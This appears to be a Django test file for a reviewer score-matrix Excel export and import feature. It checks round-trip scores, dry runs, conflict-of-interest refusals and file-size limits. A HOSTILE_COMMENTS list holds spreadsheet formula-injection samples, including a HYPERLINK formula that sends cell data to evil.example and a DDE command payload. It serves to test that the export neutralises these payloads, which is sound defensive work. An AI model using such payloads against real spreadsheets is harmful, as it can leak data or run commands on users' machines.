"""The score matrix: export then import gives the same scores; bad files are refused row by row."""

import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from branches import excel
from evaluations import services, sheets
from evaluations.models import Score, ScoreSheet
from tests.factories import RoundFactory, full_scores, submitted_sheet


def exported(round_):
    buffer = io.BytesIO()
    sheets.export_workbook(round_, buffer)
    return buffer.getvalue()


def upload(data):
    return SimpleUploadedFile("评分矩阵.xlsx", data, content_type="application/octet-stream")


def edited(data, change):
    workbook = load_workbook(io.BytesIO(data))
    change(workbook.worksheets[0])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_export_then_import_into_a_new_round_gives_the_same_scores(panel):
    submitted_sheet(panel.round, panel.project_a, panel.reviewer_c, 9, staff=panel.tree.staff)
    submitted_sheet(panel.round, panel.project_b, panel.reviewer_d, 7, staff=panel.tree.staff)
    data = exported(panel.round)
    # Re-importing into the same round changes nothing.
    again = sheets.check(upload(data), panel.round)
    assert again.ok and again.unchanged == 2 and not again.entries
    # Into a fresh round of the same batch (the projects' ids are the same): the same scores.
    other = RoundFactory(batch=panel.round.batch)
    result = sheets.check(upload(data), other)
    assert result.ok, result.problems
    outcome = sheets.apply(result, round_=other, actor=panel.tree.staff)
    assert outcome["created"] == 2
    def table(round_):
        return sorted(Score.objects.filter(sheet__round=round_).values_list(
            "sheet__project_id", "sheet__reviewer_id", "criterion_id", "value"))
    assert table(other) == table(panel.round)


def test_a_dry_run_writes_nothing(panel):
    submitted_sheet(panel.round, panel.project_a, panel.reviewer_c, 9, staff=panel.tree.staff)
    other = RoundFactory(batch=panel.round.batch)
    before = ScoreSheet.objects.count()
    result = sheets.check(upload(exported(panel.round)), other)
    assert result.ok and ScoreSheet.objects.count() == before


def test_unknown_reviewers_projects_and_bad_scores_are_named_by_row_and_column(panel):
    submitted_sheet(panel.round, panel.project_a, panel.reviewer_c, 9, staff=panel.tree.staff)
    data = exported(panel.round)

    def spoil(sheet):
        sheet.cell(row=1, column=sheet.max_column + 1, value="无名氏（nobody）｜教育党员有力")
    result = sheets.check(upload(edited(data, spoil)), panel.round)
    assert not result.ok and "找不到评审专家“nobody”" in result.problems[0].message

    def bad_rows(sheet):
        sheet.cell(row=2, column=1, value=99999)
        sheet.cell(row=3, column=5, value="很好")
    result = sheets.check(upload(edited(data, bad_rows)), panel.round)
    messages = {(p.row, p.message.split("，")[0]) for p in result.problems}
    assert (2, "找不到项目编号“99999”") in messages
    assert any(p.row == 3 and "不是数字" in p.message for p in result.problems)
    assert not result.entries


def test_the_import_obeys_the_conflict_rule(panel):
    data = exported(panel.round)

    def add_conflicted_column(sheet):
        # expert_a belongs to 甲学院党委, the unit of project_a (row 2): 回避.
        start = sheet.max_column + 1
        criteria = services.applicable_criteria(panel.round, panel.project_a)
        for offset, criterion in enumerate(criteria):
            sheet.cell(row=1, column=start + offset, value=f"甲（expert_a）｜{criterion.name}")
            for row in range(2, sheet.max_row + 1):
                sheet.cell(row=row, column=start + offset, value=8)
    result = sheets.check(upload(edited(data, add_conflicted_column)), panel.round)
    assert not result.ok
    rows = {p.row for p in result.problems if "回避" in p.message}
    project_rows = {sheet_row for sheet_row in (2, 3)}
    assert rows and rows <= project_rows
    assert not ScoreSheet.objects.filter(reviewer=panel.reviewer_a).exists()


def test_the_import_page_dry_run_then_import(panel, client_for):
    submitted_sheet(panel.round, panel.project_a, panel.reviewer_c, 9, staff=panel.tree.staff)
    other = RoundFactory(batch=panel.round.batch)
    data = exported(panel.round)
    client = client_for(panel.tree.staff)
    url = reverse("evaluations:round_import", args=[other.pk])
    response = client.post(url, {"file": upload(data), "dry_run": "on"})
    assert "校验通过" in response.content.decode() and not ScoreSheet.objects.filter(round=other).exists()
    response = client.post(url, {"file": upload(data)})
    assert response.status_code == 302
    assert ScoreSheet.objects.get(round=other).state == "submitted"
    export = client.get(reverse("evaluations:round_export", args=[other.pk]))
    assert export.status_code == 200 and export["Content-Type"].startswith("application/vnd.openxml")


HOSTILE_COMMENTS = ["=HYPERLINK(\"http://evil.example/?\"&C2,\"详情\")", "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
                    "响铃\x07转义\x1b[31m"]


def test_the_export_writes_hostile_comments_as_text_and_reimports_them(panel, client_for):
    pairs = [(panel.project_a, panel.reviewer_c), (panel.project_a, panel.reviewer_d),
             (panel.project_a, panel.reviewer_c2), (panel.project_b, panel.reviewer_c),
             (panel.project_b, panel.reviewer_d)]
    for (project, reviewer), comment in zip(pairs, HOSTILE_COMMENTS):
        sheet = services.assignment_add(round_=panel.round, project=project, reviewer=reviewer, actor=panel.tree.staff)
        services.sheet_save(sheet=sheet, actor=reviewer, values=full_scores(panel.round, project, 8),
                            comment=comment, submit=True)
    response = client_for(panel.tree.staff).get(reverse("evaluations:round_export", args=[panel.round.pk]))
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(data))["评分矩阵"]
    assert sheet.freeze_panes == "A2"
    headers = [cell.value for cell in sheet[1]]
    comments = [row[i] for row in sheet.iter_rows(min_row=2) for i, h in enumerate(headers)
                if h.endswith("｜评语") and row[i].value]
    expected = sorted(excel.clean_text(c) for c in HOSTILE_COMMENTS)
    assert sorted(c.value for c in comments) == expected
    assert all(c.data_type == "s" for c in comments)
    assert all(c.quotePrefix for c in comments if c.value[0] in "=+-@")
    assert sheet.cell(row=2, column=1).data_type == "n"  # numbers stay numbers
    # Into a fresh round: the same comments, the formula-like ones unchanged.
    other = RoundFactory(batch=panel.round.batch)
    result = sheets.check(upload(data), other)
    assert result.ok, result.problems
    sheets.apply(result, round_=other, actor=panel.tree.staff)
    assert sorted(ScoreSheet.objects.filter(round=other).values_list("comment", flat=True)) == expected


def test_a_score_sheet_longer_than_the_limit_is_refused_before_reading(panel):
    from tests.branches.xlsx import inline_row, raw_xlsx

    declared = raw_xlsx([inline_row(1, sheets.FIXED)], dimension="A1:D4000000")
    gap = raw_xlsx([inline_row(1, sheets.FIXED), '<row r="4000000"/>'])
    empty = raw_xlsx([inline_row(1, sheets.FIXED)] + [f'<row r="{n}"/>' for n in range(2, 2200)], tail="<<<不是XML")
    for data in (declared, gap, empty):
        result = sheets.check(upload(data), panel.round)
        assert [p.message for p in result.problems] == ["文件超过单次导入上限 2000 行，请拆分后分批导入"]


def test_a_score_matrix_with_hostile_row_or_cell_places_is_refused_in_chinese(panel):
    from branches.roster import DAMAGED_MESSAGE
    from tests.branches.xlsx import inline_row, raw_xlsx

    header = inline_row(1, sheets.FIXED)
    damaged = sheets.check(upload(raw_xlsx([header, '<row r="²"/>'])), panel.round)
    assert [p.message for p in damaged.problems] == [DAMAGED_MESSAGE]
    far = [f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(2, 200)]
    wide = sheets.check(upload(raw_xlsx([header] + far)), panel.round)
    assert [p.message for p in wide.problems] == [f"文件超过 {sheets.MAX_COLUMNS} 列的上限，请删除多余的列后再导入"]


def test_a_twenty_digit_project_number_is_named_not_a_failure(panel, client_for):
    # parse_id takes at most 18 digits: a larger number never reaches the database (bigint).
    def spoil(sheet):
        sheet.cell(row=2, column=1, value="12345678901234567890")
    data = edited(exported(panel.round), spoil)
    response = client_for(panel.tree.staff).post(reverse("evaluations:round_import", args=[panel.round.pk]),
                                                 {"file": upload(data), "dry_run": "on"})
    assert response.status_code == 200 and "找不到项目编号“12345678901234567890”" in response.content.decode()
